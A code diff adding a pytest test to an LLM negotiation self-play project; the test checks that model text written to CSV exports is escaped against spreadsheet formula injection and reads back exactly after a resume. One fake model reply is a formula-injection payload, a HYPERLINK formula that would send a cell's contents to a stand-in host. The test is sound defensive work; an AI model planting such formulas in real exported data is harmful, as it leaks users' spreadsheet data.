@@ -9,6 +9,7 @@ from collections import Counter
 import pytest
 
 from backend import dond_report
+from backend.csvio import read_csv_any
 from backend.dond_export import DOND_EVENTS_COLUMNS, DOND_GAMES_COLUMNS
 from backend.llm.fake_server import Reply
 from backend.negotiation_protocol import Protocol
@@ -139,3 +140,50 @@ def test_protocol_is_passed_to_every_game(tmp_path):
     purposes = Counter(e["purpose"] for e in events if e["kind"] == "llm_call")
     assert purposes["note"] > 0 and purposes["probe"] > 0 and purposes["message"] > 0
     assert all(e["belief_split"] for e in events if e["kind"] == "probe")
+
+
+def test_model_text_is_spreadsheet_safe_and_reads_back_exactly_after_a_resume(tmp_path, llm_server, monkeypatch):
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
+    openings = {"model-x": '=HYPERLINK("http://x.example/?"&A1)', "model-y": "'quoted start"}
+
+    def respond(request):
+        spoken = sum(1 for message in request["messages"] if message["role"] == "assistant")
+        return Reply(text=openings[request["model"]] if spoken == 0 else "[Proposal: ]")
+
+    llm_server.responder = respond
+
+    def run():
+        options = dict(base_url=llm_server.base_url, max_retries=0, timeout_s=10)
+        return run_async(
+            run_selfplay(
+                model_a="model-x",
+                model_b="model-y",
+                instances=1,
+                mode="coop",
+                language="en",
+                out_dir=tmp_path,
+                concurrency=4,
+                settings_options=options,
+            )
+        )
+
+    run()
+    events_path = tmp_path / "dond_events.csv"
+    header, events = read(events_path)
+    for event in events:
+        for column in ("text", "llm_reply"):
+            assert not event[column].startswith(("=", "+", "-", "@")), (column, event[column])
+    read_back = read_csv_any(events_path).fillna("")
+    spoken = set(read_back["text"]) | set(read_back["llm_reply"])
+    assert set(openings.values()) <= spoken  # exactly as the models wrote them
+    # A resume reads the files and writes them again: still exact, no second quote.
+    with (tmp_path / "dond_games.csv").open(encoding="utf-8", newline="") as handle:
+        games = list(csv.DictReader(handle))
+    with (tmp_path / "dond_games.csv").open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(games[0]))
+        writer.writeheader()
+        writer.writerows(games[:-1])
+    assert run().played == 1
+    read_again = read_csv_any(events_path).fillna("")
+    assert set(openings.values()) <= set(read_again["text"]) | set(read_again["llm_reply"])
+    assert not any(str(cell).startswith("''") for cell in read_again["text"])
